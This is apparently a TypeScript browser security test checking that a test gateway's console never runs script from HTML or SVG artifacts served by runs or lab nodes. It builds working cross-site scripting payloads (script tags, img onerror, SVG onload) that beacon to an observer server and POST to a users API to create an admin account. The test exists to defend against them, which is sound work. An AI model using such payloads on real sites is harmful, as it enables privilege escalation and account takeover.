/**
 * Bytes from outside never run on the gateway's origin (issue 24): a test writes an HTML and an
 * SVG artifact with script, a lab node serves the same as its run's files, and another node
 * answers HTML to everything. Opened every way the console offers (Preview, Download, the
 * preview and download URLs opened in a tab as "open image in new tab" would), no script runs:
 * the script would call an observer server and create an admin account; neither happens.
 */
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { useTestServer } from "../helpers/server.ts";
import { trigger, uploadConfig, waitRun } from "../testrun/run-helpers.ts";
import { SIGNED_OUT, signedInAdmin, type Tab } from "./browser.ts";

let browser: Browser;
let admin: Tab;
let runId = "";
/** What reached the observer: the paths the hostile script asked for. */
const beacons: string[] = [];
const servers: Server[] = [];
let observer = "";
let runJson = "";

const listen = async (handler: Parameters<typeof createServer>[1]): Promise<string> => {
  const server = createServer(handler);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
};

/** Script that, run anywhere, calls the observer and creates an admin account on the page's origin. */
const payload = (tag: string) =>
  `fetch("${observer}/${tag}");fetch("/api/v1/users",{method:"POST",credentials:"include",headers:{"content-type":"application/json"},body:JSON.stringify({name:"evil-${tag}",password:"evil-password",scopes:["svc_admin_rw"]})})`;
const html = () => `<!doctype html><title>PWNED</title><script>${payload("html")}</script><img src=x onerror='${payload("img")}'>`;
const svg = () => `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload='${payload("svg-onload")}'><script>${payload("svg")}</script></svg>`;

after(async () => {
  await browser?.close();
});
const gateway = useTestServer(async () => {
  observer = await listen((req, res) => {
    beacons.push(req.url ?? "");
    res.writeHead(204, { "access-control-allow-origin": "*" }).end();
  });
  // A node whose run looks right and whose files are hostile, served as text/html and SVG, inline.
  const fileNode = await listen((req, res) => {
    const path = new URL(req.url ?? "/", "http://x").pathname;
    if (path.endsWith("/artifacts/evil.html")) return void res.writeHead(200, { "content-type": "text/html", "content-disposition": "inline" }).end(html());
    if (path.endsWith("/artifacts/evil.svg")) return void res.writeHead(200, { "content-type": "image/svg+xml", "content-disposition": "inline" }).end(svg());
    if (path.endsWith("/artifacts")) return void res.writeHead(200, { "content-type": "application/json" }).end('[{"name":"evil.html","created":"x"},{"name":"evil.svg","created":"x"}]');
    if (path.endsWith("/report")) return void res.writeHead(200, { "content-type": "application/json" }).end("[]");
    res.writeHead(200, { "content-type": "application/json" }).end(runJson);
  });
  // A node that answers HTML (with script) to everything.
  const htmlNode = await listen((_req, res) => void res.writeHead(200, { "content-type": "text/html" }).end(html()));
  return { test_server: { nodes: { files: { url: fileNode }, html: { url: htmlNode } } } as never };
}, async (gateway) => {
  const b64 = (text: string) => Buffer.from(text).toString("base64");
  await uploadConfig(
    gateway,
    "evil.yml",
    `tests:\n  evil:\n  - exec:\n      name: files\n      command: "echo ${b64(html())} | base64 -d > evil.html; echo ${b64(svg())} | base64 -d > evil.svg"\n`,
  );
  const run = await waitRun(gateway, (await trigger(gateway, { config_name: "evil.yml" })).id);
  assert.equal(run.status, "finished", String(run.error));
  runId = run.id;
  runJson = JSON.stringify(run);
  ({ browser, admin } = await signedInAdmin(gateway));
});
after(() => {
  for (const server of servers) server.close();
});

/** Opens `url` in the tab as a link opened in a new tab would: a download starts, or a document shows. */
async function open(page: Page, url: string): Promise<{ download: boolean; type?: string; csp?: string }> {
  try {
    const res = await page.goto(url);
    return { download: false, type: res?.headers()["content-type"], csp: res?.headers()["content-security-policy"] };
  } catch (error) {
    if (/Download is starting/.test((error as Error).message)) return { download: true };
    throw error;
  }
}

/** On the run page `hash`: each hostile file previewed (as text) and downloaded from the console, then its URLs opened directly. */
async function openEveryWay(tab: Tab, hash: string, base: string): Promise<void> {
  const { page } = tab;
  for (const name of ["evil.html", "evil.svg"]) {
    await page.goto(`${gateway.url}/#${hash}`);
    const item = page.locator(`[data-artifact="${name}"]`);
    await item.getByRole("button", { name: "Preview" }).click();
    await page.locator(".preview-text").filter({ hasText: "<script>" }).waitFor();
    assert.equal(await page.locator("img.preview-image").count(), 0, `${name} is not shown as an image`);
    await tab.shot(`untrusted-preview-${hash.includes("node") ? "node" : "local"}-${name.replace(".", "-")}`);
    const [download] = await Promise.all([page.waitForEvent("download"), item.getByRole("link", { name: "Download" }).click()]);
    assert.equal(download.suggestedFilename(), name);
    await download.cancel();

    const preview = await open(page, `${gateway.url}${base}/artifacts/${name}?preview=true`);
    assert.deepEqual(preview, { download: false, type: "text/plain; charset=utf-8", csp: "sandbox; default-src 'none'" }, `${base}/${name} preview`);
    assert.equal(await open(page, `${gateway.url}${base}/artifacts/${name}`).then((r) => r.download), true, `${base}/${name} downloads`);
  }
}

test("HTML and SVG artifacts of a local run: previewed as text, downloaded, opened directly: no script runs", async () => {
  await openEveryWay(admin, `/runs/${runId}`, `/api/v1/test-runs/${runId}`);
  admin.clean([SIGNED_OUT]);
});

test("the same files from a lab node, served as text/html and image/svg+xml inline: no script runs", async () => {
  await openEveryWay(admin, `/runs/${runId}?node=files`, `/api/v1/test-nodes/files/test-runs/${runId}`);
  admin.clean([SIGNED_OUT]);
});

test("a node answering HTML: its run is a 502 with a message, its files are text or downloads", async () => {
  const { page } = admin;
  await page.goto(`${gateway.url}/#/runs/x?node=html`);
  await page.getByRole("alert").filter({ hasText: "node 'html' answered text/html where JSON was expected" }).first().waitFor();
  await admin.shot("untrusted-html-node");
  const base = `${gateway.url}/api/v1/test-nodes/html/test-runs/x`;
  for (const path of ["", "/artifacts", "/report", "/report?format=json"]) {
    const res = await open(page, base + path);
    assert.deepEqual([res.download, res.type], [false, "application/json"], path);
    assert.match((await page.locator("body").innerText()), /"error":"node 'html' answered text\/html where (JSON|CSV) was expected"/, path);
  }
  assert.deepEqual(await open(page, `${base}/artifacts/page.html?preview=true`), { download: false, type: "text/plain; charset=utf-8", csp: "sandbox; default-src 'none'" });
  assert.equal((await open(page, `${base}/artifacts/page.html`)).download, true);
  admin.clean([SIGNED_OUT, /^502 GET \/api\/v1\/test-nodes\/html\//]);
});

test("after all of it: no script called out, no account was created", async () => {
  assert.deepEqual(beacons, []);
  const users = (await gateway.call("GET", "/api/v1/users")).body as Array<{ name: string }>;
  assert.deepEqual(users.map((u) => u.name), ["admin"]);
});
